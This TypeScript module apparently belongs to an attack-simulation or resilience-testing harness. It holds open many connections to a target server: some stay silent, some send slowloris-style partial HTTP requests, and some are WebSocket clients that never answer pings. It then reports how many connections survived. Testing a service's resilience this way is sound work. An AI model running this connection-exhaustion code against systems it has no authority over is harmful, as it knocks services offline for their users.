import { setTimeout as delay } from "node:timers/promises";
import { addressOf, mostTimesAsLong } from "./askEvenly.ts";
import type { AttackOrder, AttackReport } from "./attackerCalls.ts";
import { enterAsScreen, openSecure } from "./sockets.ts";
import { Tally } from "./Tally.ts";

const openingAtOnce = 50;

interface Held {
  readonly isOpen: () => boolean;
  readonly end: () => void;
}

/**
 * Opens connections and keeps them: a third says nothing, a third half a request, a third is a screen in a contest that
 * answers no ping.
 */
export async function holdIdle(order: AttackOrder): Promise<AttackReport> {
  const tally = new Tally();
  const startedAt = performance.now();
  const until = startedAt + order.seconds * 1_000;
  const giveUpAt = startedAt + mostTimesAsLong * order.seconds * 1_000;
  const held: Held[] = [];
  let next = 0;
  const work = async () => {
    while (next < order.count && performance.now() < giveUpAt) {
      const index = next;
      next += 1;
      tally.tried += 1;
      const opened = await open(order, index).catch(() => null);
      if (opened) held.push(opened);
      else tally.note("not let in");
    }
  };
  await Promise.all(Array.from({ length: openingAtOnce }, work));
  await delay(Math.max(0, until - performance.now()));
  for (const { isOpen, end } of held) {
    tally.note(isOpen() ? "held to the end" : "cut off");
    end();
  }
  return tally.report();
}

async function open(order: AttackOrder, index: number): Promise<Held | null> {
  const address = addressOf(order, index);
  if (index % 3 === 2) {
    const code = order.roomCodes[index % order.roomCodes.length] ?? "";
    const screen = await enterAsScreen(order.door, address, code, { answersPings: false });
    return screen && { isOpen: () => screen.readyState === screen.OPEN, end: () => screen.terminate() };
  }
  const socket = await openSecure(order.door, address);
  socket.resume();
  if (index % 3 === 1) socket.write(`GET / HTTP/1.1\r\nHost: ${order.door.name}\r\nX-Idle: `);
  return { isOpen: () => !socket.closed, end: () => socket.destroy() };
}
